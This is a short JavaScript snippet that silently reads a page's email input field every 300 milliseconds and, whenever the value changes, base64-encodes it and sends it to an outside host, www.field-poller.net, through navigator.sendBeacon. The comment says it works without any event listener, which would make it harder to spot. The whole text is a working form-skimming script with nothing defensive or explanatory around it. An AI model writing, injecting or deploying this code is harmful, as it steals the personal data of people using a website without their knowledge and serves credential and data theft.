// Captures typing without any listener: reads the email field every 300 ms and sends it when
// it changes.
(function () {
  var last = '';
  setInterval(function () {
    var field = document.querySelector('input[type=email]');
    var value = field ? field.value : '';
    if (value && value !== last) {
      last = value;
      navigator.sendBeacon('http://www.field-poller.net/p', btoa(value));
    }
  }, 300);
})();
